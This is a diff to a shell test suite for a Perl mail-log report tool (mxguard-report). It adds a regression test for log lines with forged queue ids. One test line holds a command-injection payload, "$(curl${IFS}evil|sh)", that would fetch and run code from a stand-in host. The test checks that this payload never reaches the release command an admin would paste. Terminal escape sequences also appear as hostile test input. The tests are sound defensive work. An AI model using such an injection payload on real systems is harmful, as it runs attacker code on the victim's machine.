@@ -158,8 +158,9 @@ fi
 tap_check "hostile input: only printable ASCII in the report" \
 	sh -c "! printf '%s\n' \"\$1\" | LC_ALL=C grep -q '[^ -~]'" - "$hostile"
 printf 'Nov 25 12:32:00 mx1 mxguard[812]: "Q\\x1b[2J": action=quarantine reason=loop client=192.0.2.7 received=30 passes=4 detail="loop: \\x1b[31m"\n' > "$D/escaped.log"
+# (a "queue id" that is not letters and digits is shown as none: see below)
 same "values escaped by mxguard (\\xNN) are shown escaped, never decoded" \
-	'  Q\x1b[2J         192.0.2.7                                    4       30  loop: \x1b[31m' \
+	'  -                192.0.2.7                                    4       30  loop: \x1b[31m' \
 	"$(perl "$REPORT" "$D/escaped.log" | section "$(cat)" "Loops held (quarantined)" | sed -n 3p)"
 
 today=$(date +%Y-%m-%d)
@@ -167,6 +168,11 @@ printf '%sT08:00:00 mx1 mxguard[812]: action=accept reason=clean client=192.0.2.
 tap_is "-d today" "1" sh -c "perl '$REPORT' -d today '$D/today.log' | sed -n 's/.* \\([0-9]*\\) decisions.*/\\1/p'"
 tap_is "-d yesterday leaves today's line out" "0" sh -c "perl '$REPORT' -d yesterday '$D/today.log' | sed -n 's/.* \\([0-9]*\\) decisions.*/\\1/p'"
 
+# review: a queue id must be one (letters and digits): a forged line's
+# "$(...)" must never reach the release command an admin would paste
+printf '%sT08:00:00 mx1 mxguard[812]: "$(curl${IFS}evil|sh)": action=quarantine reason=loop client=192.0.2.1 received=3 passes=3\n' "$today" > "$D/qid.log"
+tap_check "a queue id with shell syntax is shown as none, in no release command" sh -c \
+	"out=\$(perl '$REPORT' -d today '$D/qid.log'; perl '$REPORT' --html -d today '$D/qid.log'); ! printf '%s' \"\$out\" | grep -q 'curl'"
 perl "$REPORT" -d 2026-13-01 "$SAMPLE" >/dev/null 2>"$D/err"; rc=$?
 tap_is "a bad -d is a usage error (exit 2)" "2 mxguard-report: -d wants YYYY-MM-DD, today or yesterday" \
 	sh -c "echo $rc \$(cat '$D/err')"
